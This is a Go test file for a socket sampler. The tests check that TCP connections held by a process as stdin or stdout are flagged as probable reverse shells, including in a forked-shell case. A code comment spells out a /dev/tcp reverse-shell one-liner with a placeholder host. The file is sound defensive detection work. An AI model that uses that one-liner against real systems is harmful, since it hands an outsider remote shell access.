package sampler

import "testing"

// TestResolveStdio: a TCP connection that its owner holds as fd 0 or 1 is flagged, one it
// holds on another fd is not, and neither is a listener on fd 0 (inetd style).
func TestResolveStdio(t *testing.T) {
	root := t.TempDir()
	writeProc(t, root, fakeProc{pid: 10, comm: "bash", start: 1, fds: map[string]string{
		"0": "socket:[501]", "1": "socket:[501]", "2": "socket:[501]", "255": "/dev/pts/0"}})
	writeProc(t, root, fakeProc{pid: 11, comm: "curl", start: 1, fds: map[string]string{
		"0": "/dev/null", "1": "pipe:[9]", "3": "socket:[502]"}})
	writeProc(t, root, fakeProc{pid: 12, comm: "socat", start: 1, fds: map[string]string{
		"0": "/dev/null", "1": "socket:[503]"}})
	writeProc(t, root, fakeProc{pid: 13, comm: "xinetd", start: 1, fds: map[string]string{"0": "socket:[504]"}})
	r, _ := newTestResolver(root)
	s := socks(501, 502, 503, 504)
	for i := range s {
		s[i].Proto, s[i].State = ProtoTCP, StateEstablished
	}
	s[3].State = StateListen
	r.Resolve(s, map[int]*Proc{})
	want := []bool{true, false, true, false}
	for i := range s {
		if s[i].Stdio != want[i] {
			t.Errorf("socket %d (pid %d): Stdio %v, want %v", s[i].Inode, s[i].PID, s[i].Stdio, want[i])
		}
	}
}

// TestResolveStdioForkedShell: a connection shared by a parent that keeps it on another
// fd and a child that has it as its stdio (`exec 196<>/dev/tcp/H/P; sh <&196 >&196`) is
// the child's, flagged; among several that hold it as stdio, the lowest pid's; a socket
// that no holder has as stdio stays the lowest pid's.
func TestResolveStdioForkedShell(t *testing.T) {
	root := t.TempDir()
	writeProc(t, root, fakeProc{pid: 20, comm: "bash", start: 1, fds: map[string]string{
		"0": "/dev/null", "1": "/dev/null", "2": "/dev/null", "196": "socket:[601]"}})
	writeProc(t, root, fakeProc{pid: 21, comm: "sh", start: 2, fds: map[string]string{
		"0": "socket:[601]", "1": "socket:[601]", "2": "socket:[601]", "196": "socket:[601]"}})
	writeProc(t, root, fakeProc{pid: 30, comm: "python3", start: 1, fds: map[string]string{
		"0": "/dev/null", "3": "socket:[602]", "4": "socket:[603]"}})
	writeProc(t, root, fakeProc{pid: 32, comm: "sh", start: 3, fds: map[string]string{"0": "socket:[602]", "1": "socket:[602]"}})
	writeProc(t, root, fakeProc{pid: 33, comm: "sleep", start: 4, fds: map[string]string{"0": "socket:[602]", "1": "socket:[602]"}})
	writeProc(t, root, fakeProc{pid: 34, comm: "worker", start: 4, fds: map[string]string{"5": "socket:[603]"}})
	r, _ := newTestResolver(root)
	s := socks(601, 602, 603)
	for i := range s {
		s[i].Proto, s[i].State = ProtoTCP, StateEstablished
	}
	procs := map[int]*Proc{}
	r.Resolve(s, procs)
	want := []struct {
		pid   int
		stdio bool
	}{{21, true}, {32, true}, {30, false}}
	for i, w := range want {
		if s[i].PID != w.pid || s[i].Stdio != w.stdio {
			t.Errorf("socket %d: pid %d, Stdio %v; want pid %d, Stdio %v", s[i].Inode, s[i].PID, s[i].Stdio, w.pid, w.stdio)
		}
		if p := procs[w.pid]; p == nil || p.PID != w.pid {
			t.Errorf("socket %d: procs[%d] = %v", s[i].Inode, w.pid, p)
		}
	}
}
